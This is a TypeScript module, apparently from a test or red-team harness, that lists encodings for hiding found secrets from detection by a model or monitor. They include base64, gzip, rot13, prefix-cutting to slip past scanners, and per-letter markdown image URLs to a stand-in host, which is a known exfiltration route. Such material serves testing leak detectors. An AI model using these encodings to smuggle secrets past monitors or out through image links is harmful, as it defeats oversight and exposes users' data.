import { gzipSync } from "node:zlib";

const letters = (text: string, write: (letter: string) => string, between = "") =>
  Array.from(text, write).join(between);
const code = (letter: string): number => letter.codePointAt(0) ?? 0;

const BASE32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";

/** RFC 4648 without padding. */
function base32(bytes: Buffer): string {
  const bits = Array.from(bytes, (byte) => byte.toString(2).padStart(8, "0")).join("");
  return (bits.match(/.{1,5}/g) ?? [])
    .map((five) => BASE32[Number.parseInt(five.padEnd(5, "0"), 2)])
    .join("");
}

export function rot13(text: string): string {
  return text.replaceAll(/[a-z]/gi, (letter) => {
    const first = letter <= "Z" ? 65 : 97;
    return String.fromCodePoint(((code(letter) - first + 13) % 26) + first);
  });
}

/** Ways to write down what was found so that nobody sees it; a model can do each of them, or a line of shell. */
export const ENCODINGS = {
  plain: (text: string) => text,
  base64: (text: string) => Buffer.from(text).toString("base64"),
  base64url: (text: string) => Buffer.from(text).toString("base64url"),
  hex: (text: string) => Buffer.from(text).toString("hex"),
  base32: (text: string) => base32(Buffer.from(text)),
  percent: (text: string) => letters(text, (letter) => `%${code(letter).toString(16).padStart(2, "0")}`),
  json: (text: string) => letters(text, (letter) => `\\u${code(letter).toString(16).padStart(4, "0")}`),
  decimal: (text: string) => letters(text, (letter) => String(code(letter)), ","),
  reversed: (text: string) => Array.from(text).toReversed().join(""),
  rot13,
  spaced: (text: string) => letters(text, (letter) => letter, " "),
  twice: (text: string) => Buffer.from(Buffer.from(text).toString("base64")).toString("base64"),
  gzip: (text: string) => gzipSync(text).toString("base64"),
  /** Without its first seven characters, as a scanner of known prefixes would not know it. */
  cut: (text: string) => text.replaceAll(/^.{7}/gm, ""),
  images: (text: string) =>
    letters(text, (letter) => `![](https://pixel.test/${encodeURIComponent(letter)}.png)`, "\n"),
} as const satisfies Readonly<Record<string, (text: string) => string>>;

export type Encoding = keyof typeof ENCODINGS;

export function isEncoding(name: string): name is Encoding {
  return Object.hasOwn(ENCODINGS, name);
}
